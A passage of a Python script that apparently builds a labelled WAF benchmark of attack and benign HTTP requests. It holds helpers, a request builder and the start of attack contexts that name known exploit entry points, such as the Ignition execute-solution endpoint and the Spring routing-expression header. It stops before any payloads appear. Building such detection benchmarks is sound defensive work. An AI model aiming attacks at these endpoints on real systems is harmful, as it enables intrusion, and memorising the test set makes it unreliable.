#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v20" (waf_unseen_eleventh.jsonl).

Provenance: written blind on 2026-12-07 by a helper session that read none of
the WAF's rules, tests, docs, benchmarks or corpora (only the output-format
docstring of make_waf_unseen_tenth.py was consulted, to copy the row format).
Attack payloads were composed from general knowledge of the techniques (not
copied from public payload lists); benign traffic was composed from general
knowledge of ordinary web/API usage.  Source tag "v20"; all randomness comes
from random.Random(111111), so two runs give byte-identical output.  Standard
library only.  Run from the repository root:

    python3 tests/data/make_waf_unseen_eleventh.py

Output: waf_unseen_eleventh.jsonl next to this script, one JSON object per
line with keys in exactly this order:

  id         "v20-a-<category>-NNNN" (attack) / "v20-b-<category>-NNNN"
             (benign), numbered per category from 0001
  label      "attack" or "benign"
  category   attack: java_injection, php_injection, code_injection, rfi,
             ssrf, rce, sqli, nosqli, ldapi, ssti, crlf, mail_injection, xss,
             path_traversal, xxe, log4shell (50 rows each, 800 in all);
             benign: benign_richtext, benign_markdown, benign_code,
             benign_search, benign_graphql, benign_files, benign_urls,
             benign_base64, benign_api_json, benign_forms, benign_headers,
             benign_email, benign_ldap_like, benign_templates, benign_logs
             (73 or 74 rows each, 1100 in all); 1900 rows in total
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept, plus Content-Type when
             there is a body; header values are ASCII without CR/LF
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type) or XML
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml.  For query_key / json_key the payload is the
             parameter name / object key (a json_key may sit deep inside the
             document); a form row may carry the payload as a value or as a
             field name (e.g. NoSQL "user[$ne]", Spring "class.module...");
             a json row may carry it 10+ levels deep; a multipart row carries
             it as a text field, a file's content or a file's filename; an
             xml row is either a value inside an element or (xxe, XStream,
             XMLDecoder, benign SOAP/feeds) the whole document.
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity decoding; header values are not decoded).
             Deliberate encoded evasions (double percent-encoding, %uXXXX,
             overlong UTF-8, HTML entities, ...) are kept literally.  For JSON
             values that are objects or arrays (NoSQL operators, gadget
             objects, structured benign values) the payload is the compact
             JSON text.
  hard       true for evasive attacks (20 of 50 per category) and for benign
             rows deliberately prone to false positives (about a third)
  source     "v20"

About a quarter of the attack rows (12 of 50 per category) are terse (tool
User-Agent such as curl or python-requests, minimal headers); the rest are
realistic browser (about 80 %) or API-client requests.  Raw encodings vary per
row (minimal, full, mixed-case and randomly over-encoded percent-encoding,
"+" for spaces, JSON \\u escapes), always decoding to the stated payload.  No
two attack rows share a payload string, and no two benign rows share one
either, and no payload occurs in both an attack and a benign row.  About a
quarter of the benign rows use API/tool clients.

Bodies are valid for their Content-Type: every JSON body parses; form bodies
are urlencoded; multipart bodies use CRLF framing with the boundary named in
Content-Type; every benign XML body and every XML-value row is well-formed.
Some xxe rows are deliberately not well-formed XML (parameter-entity
references inside the internal subset, a UTF-7 document).
"""

import base64
import codecs
import hashlib
import json
import os
import re
import random
import string
import unicodedata
import zlib
import xml.parsers.expat
from email import policy as _email_policy
from email.parser import BytesParser
from urllib.parse import quote, quote_plus, unquote, parse_qsl

SEED = 111111
R = random.Random(SEED)
SRC = "v20"
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "waf_unseen_eleventh.jsonl")
N_ATTACK = 50
N_HARD = 20
N_TERSE = 12
N_BENIGN = 1100
PATH_SAFE = "!$&'()*+,;=:@"
COOKIE_SAFE = "!#$&'()*-./:<=>?@[]^_`{|}~"
QUERY_SAFE = "/:@!$'()*,~"

ALNUM = string.ascii_lowercase + string.digits
HEXD = "0123456789abcdef"


# --------------------------------------------------------------------------
# small helpers
# --------------------------------------------------------------------------


def rs(n, alphabet=ALNUM):
    return "".join(R.choice(alphabet) for _ in range(n))


def rhex(n):
    return rs(n, HEXD)


def ruuid():
    h = rhex(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], R.choice("89ab"), h[17:20], h[20:32])


def b64(s, urlsafe=False, pad=True):
    if isinstance(s, str):
        s = s.encode("utf-8")
    out = base64.urlsafe_b64encode(s) if urlsafe else base64.b64encode(s)
    out = out.decode("ascii")
    return out if pad else out.rstrip("=")


def rbytes(n):
    return bytes(R.randrange(256) for _ in range(n))


def pick(seq):
    return R.choice(seq)


def jcompact(v):
    return json.dumps(v, separators=(",", ":"), ensure_ascii=False)


def fake_jwt(claims=None, alg="RS256"):
    hdr = {"alg": alg, "typ": "JWT", "kid": rhex(16)}
    if claims is None:
        claims = {
            "sub": ruuid(),
            "iat": 1733500000 + R.randrange(900000),
            "exp": 1733600000 + R.randrange(900000),
            "scope": pick(["read:orders write:orders", "openid profile email", "api:read", "admin:read"]),
        }
    sig = b64(rbytes(pick([32, 64, 256])), urlsafe=True, pad=False)
    return (
        b64(json.dumps(hdr, separators=(",", ":")), True, False)
        + "."
        + b64(json.dumps(claims, separators=(",", ":")), True, False)
        + "."
        + sig
    )


def enc_mixed(s, safe=QUERY_SAFE, p_alnum=0.25):
    """Percent-encode like quote() but also over-encode some safe characters,
    with random hex case.  Decodes to s."""
    out = []
    for ch in s:
        b = ch.encode("utf-8")
        if ch.isascii() and (ch.isalnum() or ch in "-._~" or ch in safe):
            if R.random() < p_alnum:
                out.append("".join(("%%%02X" if R.random() < 0.5 else "%%%02x") % c for c in b))
            else:
                out.append(ch)
        else:
            out.append("".join(("%%%02X" if R.random() < 0.5 else "%%%02x") % c for c in b))
    return "".join(out)


def enc_value(s, mode, safe=QUERY_SAFE):
    if mode == "plus":
        return quote_plus(s, safe=safe.replace("+", ""))
    if mode == "full":
        return quote(s, safe="")
    if mode == "lower":
        return re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(s, safe=""))
    if mode == "mixed":
        return enc_mixed(s, safe)
    return quote(s, safe=safe)


def enc_form(s, mode):
    if mode == "mixed":
        return enc_mixed(s, "", 0.15).replace("%20", "+")
    if mode == "full":
        return quote(s, safe="")
    return quote_plus(s, safe="")


XML_BAD = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def xml_text(s, cdata_ok=True):
    if cdata_ok and "]]>" not in s and "\r" not in s and R.random() < 0.3:
        return "<![CDATA[" + s + "]]>"
    s = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return s.replace("\r", "&#13;")


def json_str(s, mode=None):
    """Serialise s as a JSON string literal.  mode None: plain; 'ascii':
    ensure_ascii; 'esc': escape punctuation (and some letters) as \\uXXXX."""
    if mode is None:
        return json.dumps(s, ensure_ascii=False)
    if mode == "ascii":
        return json.dumps(s, ensure_ascii=True)
    out = ['"']
    for ch in s:
        o = ord(ch)
        if ch == '"' or ch == "\\" or o < 0x20 or not ch.isalnum() or R.random() < 0.3:
            if o > 0xFFFF:
                out.append(json.dumps(ch)[1:-1])
            else:
                out.append(("\\u%04x" if R.random() < 0.5 else "\\u%04X") % o)
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


# --------------------------------------------------------------------------
# clients
# --------------------------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.6; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
]
API_UAS = [
    "python-requests/2.32.3",
    "okhttp/4.12.0",
    "axios/1.7.7",
    "PostmanRuntime/7.42.0",
    "Go-http-client/2.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Dart/3.5 (dart:io)",
    "insomnia/10.1.1",
    "Apache-HttpClient/5.3.1 (Java/21.0.5)",
    "ShopApp/5.18.2 (iPhone; iOS 18.1; Scale/3.00)",
    "BankingApp/24.11.0 (Android 14; SM-S921B)",
    "aiohttp/3.10.10",
    "RestSharp/112.0.0.0",
    "Ktor client",
    "Faraday v2.12.0",
    "GuzzleHttp/7",
    "undici",
]
TOOL_UAS = [
    "curl/8.5.0",
    "curl/7.88.1",
    "python-requests/2.28.2",
    "Go-http-client/1.1",
    "Wget/1.21.4",
    "python-urllib3/2.2.1",
    "Mozilla/5.0",
    "Java/17.0.9",
    "libwww-perl/6.72",
    "Ruby",
]
LANGS = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.9",
    "de-DE,de;q=0.9,en;q=0.8",
    "fr-FR,fr;q=0.9,en-US;q=0.7",
    "es-ES,es;q=0.9",
    "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
    "ja,en-US;q=0.9,en;q=0.8",
    "zh-CN,zh;q=0.9",
    "ko-KR,ko;q=0.9,en-US;q=0.8",
    "ar-EG,ar;q=0.9,en;q=0.7",
    "he-IL,he;q=0.9,en;q=0.8",
    "nl-NL,nl;q=0.9,en;q=0.8",
    "pl-PL,pl;q=0.9",
    "tr-TR,tr;q=0.9,en;q=0.6",
    "it-IT,it;q=0.9",
    "sv-SE,sv;q=0.9,en;q=0.7",
]

HOSTS = {
    "shop": [
        "shop.larkspur-goods.com",
        "www.tallowmere.store",
        "checkout.pinecrest-outfitters.com",
        "api.kettleandcrumb.co",
    ],
    "saas": ["app.quillbase.io", "dash.orbitally.app", "api.ledgerloop.io", "console.tidewire.dev"],
    "cms": ["cms.fernhollow.org", "editor.brightpage.news", "admin.saltmarsh-press.com", "blog.copperleaf.dev"],
    "dev": ["api.gitforge.dev", "ci.buildkettle.io", "registry.stackyard.dev", "docs.hexwright.io"],
    "bank": ["online.northwind-credit.com", "api.harborline-bank.com", "secure.meridianfcu.org"],
    "hr": ["people.rosterly.com", "directory.acme-internal.net", "hr.cobaltworks.io"],
    "travel": ["book.skyvale-travel.com", "api.roamly.io"],
}
ALL_HOSTS = [h for v in HOSTS.values() for h in v]

ORDER = [
    "Host",
    "User-Agent",
    "Accept",
    "Accept-Language",
    "Accept-Encoding",
    "Content-Type",
    "Authorization",
    "Cookie",
    "Origin",
    "Referer",
    "Sec-Fetch-Site",
    "Sec-Fetch-Mode",
    "Sec-Fetch-Dest",
    "X-Requested-With",
    "X-CSRF-Token",
    "X-Request-ID",
]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"


def session_cookie(host):
    kind = pick(["django", "rails", "php", "java", "express", "laravel", "aspnet", "generic"])
    if kind == "django":
        return "csrftoken=%s; sessionid=%s" % (rs(32, string.ascii_letters + string.digits), rs(32))
    if kind == "rails":
        return "_%s_session=%s--%s" % (
            host.split(".")[1].replace("-", "_"),
            b64(rbytes(48)).replace("=", "%3D").replace("+", "%2B").replace("/", "%2F"),
            rhex(40),
        )
    if kind == "php":
        return "PHPSESSID=%s" % rs(26)
    if kind == "java":
        return "JSESSIONID=%s" % rhex(32).upper()
    if kind == "express":
        return "connect.sid=s%%3A%s.%s" % (
            rs(32, string.ascii_letters + string.digits + "-_"),
            b64(rbytes(32), pad=False).replace("+", "%2B").replace("/", "%2F"),
        )
    if kind == "laravel":
        return "XSRF-TOKEN=%s; laravel_session=%s" % (
            b64(rbytes(60)).replace("=", "%3D"),
            b64(rbytes(60)).replace("=", "%3D"),
        )
    if kind == "aspnet":
        return "ASP.NET_SessionId=%s; .AspNetCore.Antiforgery.%s=%s" % (
            rs(24),
            rs(11, string.ascii_letters),
            rs(40, string.ascii_letters + string.digits + "-_"),
        )
    return "_ga=GA1.1.%d.%d; sid=%s" % (R.randrange(10**9, 10**10), 1733000000 + R.randrange(10**6), rs(40))


def base_headers(host, style, accept=None, body=False):
    h = {"Host": host}
    if style == "tool":
        h["User-Agent"] = pick(TOOL_UAS)
        h["Accept"] = accept or "*/*"
        return h
    if style == "api":
        h["User-Agent"] = pick(API_UAS)
        h["Accept"] = accept or pick(["application/json", "application/json", "*/*", "application/json; charset=utf-8"])
        if R.random() < 0.5:
            h["Accept-Encoding"] = "gzip, deflate"
        r = R.random()
        if r < 0.6:
            h["Authorization"] = "Bearer " + fake_jwt()
        elif r < 0.75:
            h["Authorization"] = "Basic " + b64("%s:%s" % (pick(["svc-sync", "ci-bot", "reporting", "ops"]), rs(20)))
        elif r < 0.9:
            h["X-Api-Key"] = pick(["sk_live_", "pk_", "ak_", ""]) + rs(32, string.ascii_letters + string.digits)
        h["X-Request-ID"] = ruuid()
        return h
    h["User-Agent"] = pick(BROWSER_UAS)
    h["Accept"] = accept or (
        pick([ACCEPT_JSON, "application/json", ACCEPT_JSON])
        if body
        else pick([ACCEPT_JSON, ACCEPT_HTML, "application/json"])
    )
    h["Accept-Language"] = pick(LANGS)
    h["Accept-Encoding"] = pick(["gzip, deflate, br", "gzip, deflate, br, zstd"])
    h["Cookie"] = session_cookie(host)
    if body or R.random() < 0.5:
        h["Origin"] = "https://" + host
    h["Referer"] = "https://%s/%s" % (
        host,
        pick(
            [
                "",
                "account",
                "dashboard",
                "products/%d" % R.randrange(1000, 99999),
                "search?q=" + rs(5),
                "settings/profile",
                "cart",
                "editor/posts/%d" % R.randrange(100, 9999),
            ]
        ),
    )
    if R.random() < 0.6:
        h["Sec-Fetch-Site"] = "same-origin"
        h["Sec-Fetch-Mode"] = "cors" if h["Accept"] != ACCEPT_HTML else "navigate"
        h["Sec-Fetch-Dest"] = "empty" if h["Accept"] != ACCEPT_HTML else "document"
    if body and R.random() < 0.5:
        h["X-CSRF-Token"] = rs(43, string.ascii_letters + string.digits + "-_")
    return h


def order_headers(h):
    out = {}
    for k in ORDER:
        if k in h:
            out[k] = h[k]
    for k in h:
        if k not in out:
            out[k] = h[k]
    return out


def boundary(style):
    if style == "browser":
        return "----WebKitFormBoundary" + rs(16, string.ascii_letters + string.digits)
    if style == "tool":
        return "------------------------" + rs(16, HEXD)
    return (
        pick(["", "----", "--"])
        + pick(["boundary", "Boundary", "form-data-boundary-", "dart-http-boundary-", "okhttp-"])
        + rs(24, string.ascii_letters + string.digits)
    )


def multipart(parts, bnd):
    """parts: list of (name, filename or None, content_type or None, content)."""
    out = []
    for name, fn, ct, content in parts:
        out.append("--" + bnd + "\r\n")
        cd = 'Content-Disposition: form-data; name="%s"' % name
        if fn is not None:
            cd += '; filename="%s"' % fn
        out.append(cd + "\r\n")
        if ct:
            out.append("Content-Type: %s\r\n" % ct)
        out.append("\r\n")
        out.append(content)
        out.append("\r\n")
    out.append("--" + bnd + "--\r\n")
    return "".join(out)


# sentinel inside templates marking where the payload goes
class _P:
    def __repr__(self):
        return "P"


P = _P()


def subst(obj, val):
    if obj is P:
        return val
    if isinstance(obj, dict):
        return {k: subst(v, val) for k, v in obj.items()}
    if isinstance(obj, list):
        return [subst(v, val) for v in obj]
    return obj


def has_p(obj):
    if obj is P:
        return True
    if isinstance(obj, dict):
        return any(has_p(v) for v in obj.values())
    if isinstance(obj, list):
        return any(has_p(v) for v in obj)
    return False


def subst_key(obj, key, filler, kv=None):
    """Replace the field holding P by filler and add `key` next to it."""
    if isinstance(obj, dict):
        out = {}
        hit = False
        for k, v in obj.items():
            if v is P:
                out[k] = filler
                hit = True
            else:
                out[k] = subst_key(v, key, filler, kv)
        if hit:
            out[key] = kv if kv is not None else pick(["1", True, "", "asc", 1, "true", None])
        return out
    if isinstance(obj, list):
        return [subst_key(v, key, filler, kv) for v in obj]
    return obj


DEEP_KEYS = [
    "data",
    "attributes",
    "settings",
    "profile",
    "preferences",
    "notifications",
    "channels",
    "email",
    "templates",
    "custom",
    "blocks",
    "content",
    "meta",
    "extra",
    "config",
    "options",
    "rules",
    "filters",
    "payload",
    "context",
    "details",
    "properties",
    "spec",
    "values",
    "overrides",
    "layout",
    "sections",
]


def deep(val, depth=None):
    depth = depth or R.randrange(10, 15)
    keys = R.sample(DEEP_KEYS, depth)
    leaf = pick(["value", "text", "body", "note", "expr", "label", "title", "source"])
    node = {leaf: val}
    if R.random() < 0.5:
        node["type"] = pick(["string", "text", "rich", "plain"])
    for i, k in enumerate(reversed(keys)):
        node = {k: node}
        if R.random() < 0.25:
            node = {"id": R.randrange(1, 9999), k: node[k]} if R.random() < 0.5 else node
        if R.random() < 0.1:
            node = {k: [node[k]]}
    return {"version": pick([1, 2, "2024-06-01"]), "request": node}


def placeholder_json(obj, jmode):
    """Serialise obj, replacing the P sentinel by a placeholder to be filled."""
    return json.dumps(subst(obj, "\x00@@PAYLOAD@@\x00"), ensure_ascii=(jmode == "ascii"))


def fill_json(text, payload, jmode):
    ph = json.dumps("\x00@@PAYLOAD@@\x00", ensure_ascii=(jmode == "ascii"))
    assert text.count(ph) == 1, text
    if isinstance(payload, (dict, list)):
        rep = json.dumps(payload, ensure_ascii=(jmode == "ascii"))
        if jmode == "esc":
            rep = rep.replace("$", "\\u0024").replace("@", "\\u0040")
        return text.replace(ph, rep)
    return text.replace(ph, json_str(payload, jmode))


# --------------------------------------------------------------------------
# request builder (shared by attack and benign rows)
# --------------------------------------------------------------------------

PLACEMENT_OF = {
    "query": "query",
    "query_key": "query_key",
    "path": "path",
    "json": "json",
    "json_deep": "json",
    "json_key": "json_key",
    "json_key_deep": "json_key",
    "form": "form",
    "form_key": "form",
    "header": "header",
    "cookie": "cookie",
    "mp_field": "multipart",
    "mp_file": "multipart",
    "mp_filename": "multipart",
    "xml": "xml",
    "xml_doc": "xml",
}

JSON_CTS = ["application/json", "application/json", "application/json; charset=utf-8", "application/json;charset=UTF-8"]


def make_request(at, payload, style, host, spec):
    """Build (method, path, query, headers, body, placement)."""
    enc = spec.get("enc", "std")
    jmode = spec.get("jmode")
    headers = base_headers(
        host, style, spec.get("accept"), body=at not in ("query", "query_key", "path", "header", "cookie")
    )
    method = spec.get("method")
    path = spec.get("path", "/")
    query = ""
    body = ""
    ctype = None
    if "extra_headers" in spec:
        for k, v in spec["extra_headers"].items():
            headers[k] = v

    def qenc(pairs):
        out = []
        for k, v in pairs:
            if v is None:
                out.append(k)
            else:
                out.append(k + "=" + v)
        return "&".join(out)

    extra_q = [
        (
            quote_plus(k, safe="[]"),
            quote(v, safe=QUERY_SAFE) if style != "tool" or R.random() < 0.5 else quote_plus(v, safe="/:,"),
        )
        for k, v in spec.get("extra_q", [])
    ]

    if at in ("query", "query_key"):
        method = method or "GET"
        pairs = list(extra_q)
        if at == "query":
            item = (quote_plus(spec["param"], safe="[]"), enc_value(payload, enc))
        else:
            k = enc_value(payload, enc).replace("=", "%3D").replace("&", "%26")
            item = (k, None if spec.get("bare") else quote(spec.get("kval", "1"), safe=""))
        pairs.insert(R.randrange(len(pairs) + 1), item)
        query = qenc(pairs)
    elif at == "path":
        method = method or "GET"
        safe = PATH_SAFE + ("/" if spec.get("slash") else "")
        seg = enc_mixed(payload, safe, 0.2) if enc == "mixed" else quote(payload, safe=safe)
        path = spec["path"].replace("{}", seg)
        if extra_q:
            query = qenc(extra_q)
    elif at == "header":
        method = method or "GET"
        headers[spec["hdr"]] = payload
        if extra_q:
            query = qenc(extra_q)
    elif at == "cookie":
        method = method or "GET"
        ck = (
            spec["cookie"]
            + "="
            + (enc_mixed(payload, COOKIE_SAFE, 0.1) if enc == "mixed" else quote(payload, safe=COOKIE_SAFE))
        )
        if "Cookie" in headers and R.random() < 0.8:
            headers["Cookie"] = headers["Cookie"] + "; " + ck if R.random() < 0.6 else ck + "; " + headers["Cookie"]
        else:
            headers["Cookie"] = ck
        if extra_q:
            query = qenc(extra_q)
    elif at in ("json", "json_deep", "json_key", "json_key_deep"):
        method = method or "POST"
        tpl = spec.get("json", P)
        if at == "json_deep":
            tpl = subst(tpl, deep(P))
        elif at in ("json_key", "json_key_deep"):
            base = subst(tpl, deep(P)) if at == "json_key_deep" else tpl
            tpl = subst_key(base, "\x00@@PAYLOAD@@\x00", spec.get("filler", pick(["", "x", "1", "en"])), spec.get("kv"))
        if at in ("json_key", "json_key_deep"):
            text = json.dumps(tpl, ensure_ascii=(jmode == "ascii"))
            ph = json.dumps("\x00@@PAYLOAD@@\x00", ensure_ascii=(jmode == "ascii"))
            assert text.count(ph) == 1
            body = text.replace(ph, json_str(payload, jmode))
        else:
            body = fill_json(placeholder_json(tpl, jmode), payload, jmode)
        if spec.get("indent"):
            body = json.dumps(json.loads(body), indent=2, ensure_ascii=False) if jmode is None else body
        ctype = spec.get("ctype", pick(JSON_CTS))
        if extra_q:
            query = qenc(extra_q)
    elif at in ("form", "form_key"):
        method = method or "POST"
        items = []
        for k, v in spec["form"]:
            if v is P:
                if at == "form":
                    items.append(
                        (quote_plus(k, safe="[]") if R.random() < 0.7 else quote(k, safe=""), enc_form(payload, enc))
                    )
                else:
                    items.append((enc_form(payload, enc), quote_plus(spec.get("kval", pick(["1", "x", "", "true"])))))
            else:
                items.append((quote_plus(k, safe="[]"), quote_plus(v)))
        body = "&".join(k + "=" + v for k, v in items)
        ctype = pick(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"])
        if extra_q:
            query = qenc(extra_q)
    elif at in ("mp_field", "mp_file", "mp_filename"):
        method = method or "POST"
        mp = spec["mp"]
        bnd = boundary(style)
        parts = [(n, None, None, v) for n, v in mp.get("fields", [])]
        fname, fct, fcontent = mp.get("file", ("file", None, None))[0], None, None
        if at == "mp_field":
            parts.insert(R.randrange(len(parts) + 1), (mp["field"], None, None, payload))
            if "file" in mp:
                n, fn, ct, content = mp["file"]
                parts.append((n, fn, ct, content))
        elif at == "mp_file":
            n, fn, ct, _c = mp["file"]
            parts.append((n, fn, ct, payload))
        else:
            n, fn, ct, content = mp["file"]
            parts.append((n, payload, ct, content))
        body = multipart(parts, bnd)
        ctype = "multipart/form-data; boundary=" + bnd
        if extra_q:
            query = qenc(extra_q)
    elif at in ("xml", "xml_doc"):
        method = method or "POST"
        if at == "xml":
            body = spec["xml"].replace("{}", xml_text(payload, spec.get("cdata", True)))
        else:
            body = payload
        ctype = spec.get(
            "ctype", pick(["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"])
        )
        if extra_q:
            query = qenc(extra_q)
    else:
        raise ValueError(at)
    if ctype:
        headers["Content-Type"] = ctype
    return dict(
        method=method, path=path, query=query, headers=order_headers(headers), body=body, placement=PLACEMENT_OF[at]
    )


def row(rid, label, category, req, payload, hard):
    if isinstance(payload, (dict, list)):
        payload = jcompact(payload)
    return {
        "id": rid,
        "label": label,
        "category": category,
        "method": req["method"],
        "path": req["path"],
        "query": req["query"],
        "headers": req["headers"],
        "body": req["body"],
        "placement": req["placement"],
        "payload": payload,
        "hard": bool(hard),
        "source": SRC,
    }


# --------------------------------------------------------------------------
# attack entries
# --------------------------------------------------------------------------


class A:
    def __init__(self, payload, hard=False, at=None, **kw):
        self.payload = payload
        self.hard = hard
        self.at = at
        self.kw = kw


def E(p, at=None, **kw):
    return A(p, False, at, **kw)


def H(p, at=None, **kw):
    return A(p, True, at, **kw)


def ascii_header_ok(s):
    return isinstance(s, str) and 0 < len(s) <= 3000 and all(0x20 <= ord(c) <= 0x7E for c in s) and s == s.strip()


def compat(at, p):
    if isinstance(p, (dict, list)):
        return at in ("json", "json_deep")
    if at == "header":
        return ascii_header_ok(p)
    if at in ("query_key", "json_key", "json_key_deep", "form_key"):
        return len(p) <= 200
    if at == "xml":
        return not XML_BAD.search(p)
    if at == "mp_filename":
        return len(p) <= 200 and not any(c in p for c in '"\r\n\x00') and p.isprintable()
    if at == "xml_doc":
        return p.lstrip("\ufeff").startswith("<")
    return True


# --------------------------------------------------------------------------
# per-category request contexts for attack rows
# --------------------------------------------------------------------------

GENERIC = dict(
    q=[
        ("/api/v1/search", "q", [("page", "1"), ("per_page", "20")]),
        ("/products", "category", [("sort", "popular")]),
        ("/api/v2/items", "filter", [("limit", "50")]),
        ("/index.php", "page", []),
        ("/account/settings", "tab", [("lang", "en")]),
    ],
    path=["/api/v1/users/{}", "/products/{}", "/api/v2/reports/{}/download", "/blog/{}", "/files/{}/preview"],
    json=[
        ("POST", "/api/v1/comments", {"post_id": 4182, "author": "guest", "body": P}),
        ("PUT", "/api/v1/profile", {"display_name": P, "timezone": "Europe/Berlin", "newsletter": False}),
        ("POST", "/api/v2/search", {"query": P, "page": 1, "size": 20, "facets": ["brand", "price"]}),
        ("PATCH", "/api/v1/settings", {"locale": "en-US", "signature": P}),
    ],
    form=[
        ("/contact", [("name", "Sam Lee"), ("email", "sam.lee@mailbox.example"), ("message", P)]),
        ("/login", [("username", P), ("password", "S3cure!pass"), ("remember_me", "on")]),
        ("/search", [("q", P), ("scope", "all")]),
    ],
    hdr=["X-Forwarded-For", "Referer", "User-Agent", "X-Client-Data", "X-Custom-Header"],
    hpath=["/", "/api/v1/me", "/dashboard", "/health", "/api/v1/orders"],
    cookie=["prefs", "lang", "tracking", "theme", "last_search"],
    mp=[
        (
            "/api/v1/upload",
            {
                "fields": [("title", "Quarterly figures"), ("folder", "shared")],
                "field": "description",
                "file": ("file", "report.txt", "text/plain", "Q3 numbers attached.\n"),
            },
        ),
        (
            "/profile/avatar",
            {
                "fields": [("user_id", "88412")],
                "field": "caption",
                "file": ("avatar", "me.png", "image/png", "PNG-DATA-PLACEHOLDER"),
            },
        ),
    ],
    xml=[
        (
            "/api/v1/orders.xml",
            '<?xml version="1.0" encoding="UTF-8"?>\n<order><customer>Lee</customer><note>{}</note><total currency="EUR">42.50</total></order>',
        ),
        (
            "/soap/CustomerService",
            '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><FindCustomer xmlns="urn:crm"><Name>{}</Name></FindCustomer></soap:Body></soap:Envelope>',
        ),
    ],
    xmlpath=["/api/v1/import", "/soap/OrderService", "/xmlrpc.php", "/api/feeds/ingest", "/saml/acs"],
)

CTX = {
    "java_injection": dict(
        q=[
            ("/struts2-showcase/index.action", "name", []),
            ("/api/v1/evaluate", "expr", [("format", "json")]),
            ("/actuator/env", "name", []),
            ("/app/search.action", "keyword", [("page", "1")]),
            ("/pages/viewpage.action", "pageId", []),
        ],
        path=["/struts/{}.action", "/api/v1/rules/{}/validate", "/{}/pages/createpage.action", "/app/{}"],
        json=[
            (
                "POST",
                "/api/v1/rules/evaluate",
                {"ruleName": "discount", "expression": P, "context": {"cartTotal": 120}},
            ),
            ("POST", "/api/v1/import/json", {"type": "customer", "record": P}),
            ("PUT", "/api/v2/workflows/17", {"name": "Approve invoices", "condition": P, "enabled": True}),
            ("POST", "/functionRouter", {"input": P}),
        ],
        form=[
            ("/login.action", [("username", P), ("password", "changeme")]),
            ("/admin/script", [("script", P), ("lang", "groovy")]),
            ("/app/save.action", [("id", "71"), ("title", P)]),
        ],
        hdr=[
            "X-Expression",
            "User-Agent",
            "Referer",
            "X-Requested-With",
            "spring.cloud.function.routing-expression",
            "Content-Type",
        ],
        hpath=["/struts2-showcase/", "/functionRouter", "/api/v1/status", "/index.action"],
        cookie=["rememberMe", "JSESSIONID_PREF", "view_state", "prefs"],
        mp=[
            (
                "/upload.action",
                {
                    "fields": [("desc", "site photo")],
                    "field": "caption",
                    "file": ("upload", "plan.yml", "application/x-yaml", "name: plan\n"),
                },
            ),
            (
                "/api/v1/config/import",
                {
                    "fields": [("env", "staging")],
                    "field": "notes",
                    "file": ("config", "application.yml", "text/yaml", "server:\n  port: 8080\n"),
                },
            ),
        ],
        xml=[("/api/v1/orders.xml", '<?xml version="1.0"?><order><id>771</id><comment>{}</comment></order>')],
        xmlpath=["/orders/3", "/api/v1/xstream/import", "/invoker/JMXInvokerServlet", "/xmlrpc"],
    ),
    "php_injection": dict(
        q=[
            ("/index.php", "cmd", []),
            ("/wp-admin/admin-ajax.php", "data", [("action", "save_widget")]),
            ("/calc.php", "expr", []),
            ("/modules/view.php", "callback", [("id", "3")]),
            ("/tools/debug.php", "code", []),
        ],
        path=["/index.php/{}", "/cgi-bin/{}", "/api/v1/pages/{}", "/theme/{}/preview"],
        json=[
            ("POST", "/api/v1/widgets", {"widget": "custom_html", "settings": {"php": P}}),
            (
                "POST",
                "/_ignition/execute-solution",
                {"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution", "parameters": P},
            ),
            ("PUT", "/api/v1/templates/12", {"name": "footer", "source": P}),
        ],
        form=[
            ("/wp-admin/admin-ajax.php", [("action", "update_option"), ("value", P)]),
            ("/contact.php", [("name", "Ana"), ("email", "ana@mail.example"), ("message", P)]),
